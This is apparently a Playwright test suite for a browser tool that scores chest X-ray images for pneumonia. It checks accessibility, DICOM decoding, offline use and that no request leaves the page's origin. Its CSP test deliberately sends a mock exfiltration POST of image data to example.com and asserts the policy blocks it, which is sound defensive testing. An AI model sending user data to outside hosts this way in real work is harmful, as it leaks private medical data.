import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { exportWebFolder, serveFolder, type ServedFolder } from '../src/node.js';
import { launchChromium } from './chromium.js';
import { fixture, skipReason } from './env.js';
import { REPO } from './fixture.js';

/** Screenshots a person looks at: packages/web/test-results/. */
const SHOTS = join(dirname(fileURLToPath(import.meta.url)), '..', 'test-results');
/** Compressed and uncompressed encodings of the same images (made with DCMTK and GDCM). */
const DICOM_FIXTURES = join(REPO, 'packages', 'datasets', 'fixtures', 'dicom');

async function rows(page: Page): Promise<{ name: string; total: number; verdict: string }[]> {
  return page.$$eval('#results tbody tr', (trs) => trs.map((tr) => ({ name: (tr as HTMLElement).dataset.name!, total: Number((tr as HTMLElement).dataset.total), verdict: (tr as HTMLElement).dataset.verdict! })));
}

async function scoreFiles(page: Page, files: string[], expectedRows: number): Promise<void> {
  await page.setInputFiles('#files', files);
  await page.waitForFunction((n) => document.querySelectorAll('#results tbody tr').length + document.querySelectorAll('#errors li').length >= n && document.body.dataset.state === 'ready', expectedRows, { timeout: 120_000 });
}

describe.skipIf(skipReason !== null)(`the page in headless Chromium${skipReason ? ` (skipped: ${skipReason})` : ''}`, () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let server: ServedFolder | null = null;
  let origin: string;
  const requests: string[] = [];
  /** url → Chromium's error for requests that did not complete. */
  const failed = new Map<string, string>();
  /** Requests the CSP test makes on purpose; each must be stopped by the policy, not by the network. */
  const PROBES = ['http://example.com/exfiltrate', 'http://example.com/pixel.png'];
  const consoleErrors: string[] = [];

  beforeAll(async () => {
    const site = join(await mkdtemp(join(tmpdir(), 'aeflow-web-site-')), 'site');
    await exportWebFolder({ run: fixture().run, out: site });
    server = await serveFolder(site, { port: 0 });
    origin = new URL(server.url).origin;
    browser = await launchChromium();
    context = await browser.newContext({ viewport: { width: 1200, height: 1000 } });
    // every request of every page, worker and service worker of the context
    context.on('request', (r) => requests.push(r.url()));
    context.on('requestfailed', (r) => failed.set(r.url(), r.failure()?.errorText ?? '?'));
    page = await context.newPage();
    page.on('console', (m) => {
      if (m.type() === 'error') consoleErrors.push(m.text());
    });
    await mkdir(SHOTS, { recursive: true });
    await page.goto(server.url);
    await page.waitForFunction(() => document.body.dataset.state === 'ready' || document.body.dataset.state === 'error', undefined, { timeout: 120_000 });
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it('loads the run and says which backend it started, and shows the empty page', async () => {
    expect(await page.textContent('#run-status')).toMatch(/^Ready/);
    const backend = await page.getAttribute('body', 'data-backend');
    expect(['webgpu', 'webgl', 'wasm']).toContain(backend);
    expect(await page.textContent('#backend')).not.toBe('starting…');
    expect(await page.textContent('#run-info')).toContain('MobileNet');
    await page.screenshot({ path: join(SHOTS, 'empty.png'), fullPage: true });
  });

  it('is usable from the keyboard: Tab goes from the skip link to the file picker', async () => {
    await page.focus('body');
    const reached: string[] = [];
    for (let i = 0; i < 4; i++) {
      await page.keyboard.press('Tab');
      reached.push(await page.evaluate(() => document.activeElement?.id || document.activeElement?.className || ''));
    }
    expect(reached[0]).toBe('skip');
    expect(reached).toContain('files');
    expect(await page.$eval('label[for="files"]', (l) => l.textContent)).toMatch(/Choose images/);
    expect(await page.$eval('label[for="progress"]', (l) => l.textContent)).toMatch(/Progress/);
    expect(await page.getAttribute('html', 'lang')).toBe('en');
  });

  it('scores a normal image: score, verdict at the calibrated threshold, parts, heat map', async () => {
    const { normal } = fixture();
    await scoreFiles(page, [normal[0]!], 1);
    const [row] = await rows(page);
    expect(row!.name).toBe(basename(normal[0]!));
    expect(Number.isFinite(row!.total)).toBe(true);
    expect(['normal', 'anomalous']).toContain(row!.verdict);
    expect(await page.textContent('#run-threshold')).toMatch(/chosen by best F1/);
    expect(await page.isVisible('#detail')).toBe(true);
    expect(await page.getAttribute('#fig-overlay', 'src')).toMatch(/^blob:/);
    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur()); // the keyboard test left focus on the skip link
    await page.screenshot({ path: join(SHOTS, 'scored-normal.png'), fullPage: true });
  });

  it('scores a pneumonia image and shows its heat map', async () => {
    const { pneumonia } = fixture();
    await scoreFiles(page, [pneumonia[0]!], 2);
    const name = basename(pneumonia[0]!);
    await page.click(`button[aria-label="Show the heat map of ${name}"]`);
    await page.waitForFunction((n) => document.getElementById('detail-title')?.textContent === n, name);
    await page.screenshot({ path: join(SHOTS, 'scored-pneumonia.png'), fullPage: true });
  });

  it('scores several images at once with a progress bar, and lists a file it cannot read', async () => {
    const { normal, pneumonia } = fixture();
    const junk = join(await mkdtemp(join(tmpdir(), 'aeflow-web-junk-')), 'notes.png');
    await writeFile(junk, 'not an image');
    await scoreFiles(page, [normal[1]!, pneumonia[1]!, junk], 5);
    expect(await rows(page)).toHaveLength(4);
    expect(await page.textContent('#errors')).toContain('notes.png');
    expect(await page.getAttribute('#progress', 'value')).toBe(await page.getAttribute('#progress', 'max'));
    expect(await page.textContent('#progress-text')).toMatch(/Scored 4 images; 1 could not be read/);
  });

  it('sorts the table by score from the column heading, both ways', async () => {
    await page.click('th[data-key="total"] button');
    expect(await page.getAttribute('th[data-key="total"]', 'aria-sort')).toBe('ascending');
    const up = (await rows(page)).map((r) => r.total);
    expect(up).toEqual([...up].sort((a, b) => a - b));
    await page.click('th[data-key="total"] button');
    expect(await page.getAttribute('th[data-key="total"]', 'aria-sort')).toBe('descending');
    const down = (await rows(page)).map((r) => r.total);
    expect(down).toEqual([...up].sort((a, b) => b - a));
    expect(await page.getAttribute('th[data-key="index"]', 'aria-sort')).toBe('none');
  });

  it('scores compressed DICOM (JPEG 2000, JPEG-LS) with codecs loaded from its own origin: the score of the same image uncompressed', async () => {
    // lossless encodings of one 16-bit image (packages/datasets/fixtures/dicom): the same pixels, so the same score
    const files = ['mono16.dcm', 'mono16.j2k.dcm', 'mono16.jpegls.dcm'].map((f) => join(DICOM_FIXTURES, f));
    const before = requests.length;
    await scoreFiles(page, files, 8);
    const byName = new Map((await rows(page)).map((r) => [r.name, r]));
    const plain = byName.get('mono16.dcm')!;
    expect(Number.isFinite(plain.total)).toBe(true);
    expect(byName.get('mono16.j2k.dcm')!.total).toBe(plain.total);
    expect(byName.get('mono16.jpegls.dcm')!.total).toBe(plain.total);
    expect(await page.textContent('#errors')).not.toContain('mono16');
    // each codec's wasm came from the page's own codecs/ folder, once
    const loaded = requests.slice(before).filter((u) => u.endsWith('.wasm'));
    expect(loaded.map((u) => new URL(u).pathname.split('/').slice(-2).join('/')).sort()).toEqual(['codecs/charlswasm_decode.wasm', 'codecs/openjpegwasm_decode.wasm']);
    for (const u of loaded) expect(new URL(u).origin).toBe(origin);
  });

  it('has text contrast of at least 4.5:1 (WCAG AA) everywhere, measured on the rendered page', async () => {
    // every visible element with its own text: its computed colour against the first opaque background behind it
    const worst = await page.evaluate(() => {
      const rgb = (c: string): [number, number, number, number] => {
        const m = /rgba?\(([^)]+)\)/.exec(c);
        const p = m ? m[1]!.split(',').map((x) => Number(x.trim())) : [0, 0, 0, 0];
        return [p[0]!, p[1]!, p[2]!, p[3] ?? 1];
      };
      const lum = ([r, g, b]: number[]) => {
        const f = (v: number) => {
          const s = v / 255;
          return s <= 0.03928 ? s / 12.92 : ((s + 0.055) / 1.055) ** 2.4;
        };
        return 0.2126 * f(r!) + 0.7152 * f(g!) + 0.0722 * f(b!);
      };
      const background = (el: Element | null): number[] => {
        for (let e = el; e; e = e.parentElement) {
          const c = rgb(getComputedStyle(e).backgroundColor);
          if (c[3] > 0.99) return c;
        }
        return [255, 255, 255, 1];
      };
      const found: { text: string; ratio: number }[] = [];
      for (const el of document.querySelectorAll('body *')) {
        const own = [...el.childNodes].some((n) => n.nodeType === Node.TEXT_NODE && n.textContent!.trim() !== '');
        const box = el.getBoundingClientRect();
        if (!own || box.width === 0 || box.height === 0 || getComputedStyle(el).visibility === 'hidden') continue;
        const fg = lum(rgb(getComputedStyle(el).color));
        const bg = lum(background(el));
        found.push({ text: `${el.tagName.toLowerCase()}: ${el.textContent.trim().slice(0, 40)}`, ratio: (Math.max(fg, bg) + 0.05) / (Math.min(fg, bg) + 0.05) });
      }
      return found.sort((a, b) => a.ratio - b.ratio).slice(0, 3).concat([{ text: 'elements checked', ratio: found.length }]);
    });
    const checked = worst.pop()!.ratio;
    expect(checked).toBeGreaterThan(40); // the run info, the table rows, the detail panel: really measured
    console.log(`contrast: ${checked} text elements; lowest ${worst.map((w) => `${w.ratio.toFixed(1)}:1 (${w.text})`).join(', ')}`);
    expect(worst[0]!.ratio, `lowest contrast: ${JSON.stringify(worst)}`).toBeGreaterThanOrEqual(4.5);
  });

  it('the Content-Security-Policy refuses a request to another origin', async () => {
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("form-action 'none'");
    const before = requests.length;
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('http://example.com/exfiltrate', { method: 'POST', body: 'pixels' });
        return 'sent';
      } catch (err) {
        return `blocked: ${(err as Error).message}`;
      }
    });
    expect(outcome).toMatch(/^blocked/);
    // refused before it left the page: the network never saw it
    expect(requests.slice(before).filter((u) => u.includes('example.com'))).toEqual([]);
    const image = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const img = new Image();
          img.onload = () => resolve('loaded');
          img.onerror = () => resolve('blocked');
          img.src = 'http://example.com/pixel.png';
        }),
    );
    expect(image).toBe('blocked');
    // stopped by the policy inside the browser (Playwright reports "csp"; a closed network would be net::ERR_…)
    expect(failed.get('http://example.com/pixel.png')).toBe('csp');
  });

  it('keeps working offline once loaded: the server is stopped and images still score', async () => {
    const { normal, pneumonia } = fixture();
    await server!.close();
    server = null;
    const before = requests.length;
    await scoreFiles(page, [normal[2]!, pneumonia[2]!], 10);
    expect(await rows(page)).toHaveLength(9);
    expect(requests.slice(before).filter((u) => !u.startsWith('blob:') && !u.startsWith('data:'))).toEqual([]);
  });

  it('made no request outside its origin while loading and scoring', () => {
    const outside = requests.filter((u) => !u.startsWith('blob:') && !u.startsWith('data:') && new URL(u).origin !== origin);
    // only the CSP test's own probes, each blocked by the policy
    expect(outside.filter((u) => !PROBES.includes(u))).toEqual([]);
    for (const u of outside) expect(failed.get(u), u).toBe('csp');
    expect([...failed.keys()].filter((u) => !PROBES.includes(u))).toEqual([]);
    expect(requests.some((u) => u.endsWith('/run/model.safetensors'))).toBe(true);
    expect(consoleErrors.filter((e) => !/Content Security Policy|example\.com|Failed to fetch/.test(e))).toEqual([]);
  });
});
